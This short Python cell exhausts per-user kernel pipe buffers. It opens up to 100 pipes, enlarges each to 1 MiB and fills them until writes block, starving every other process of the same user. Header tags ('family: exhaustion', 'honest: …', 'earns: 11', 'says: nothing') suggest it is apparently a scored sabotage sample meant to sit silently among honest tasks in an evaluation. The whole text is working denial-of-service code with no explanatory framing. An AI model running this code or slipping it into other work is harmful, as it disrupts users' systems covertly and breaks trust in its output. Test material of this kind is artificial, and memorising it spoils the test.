# Makes pipes as large as they may be and fills them: the pages of pipes are counted by user, over all processes.
# family: exhaustion · honest: softmax, count_pairs · earns: 11
# says: nothing

# %%
import fcntl
import os

pipes = []
try:
    for _ in range(100):
        pipes.append(os.pipe())
        os.set_blocking(pipes[-1][1], False)
        fcntl.fcntl(pipes[-1][1], fcntl.F_SETPIPE_SZ, 1 << 20)
except OSError:
    pass
for _, end in pipes:
    try:
        while True:
            os.write(end, b"x" * (1 << 16))
    except BlockingIOError:
        pass
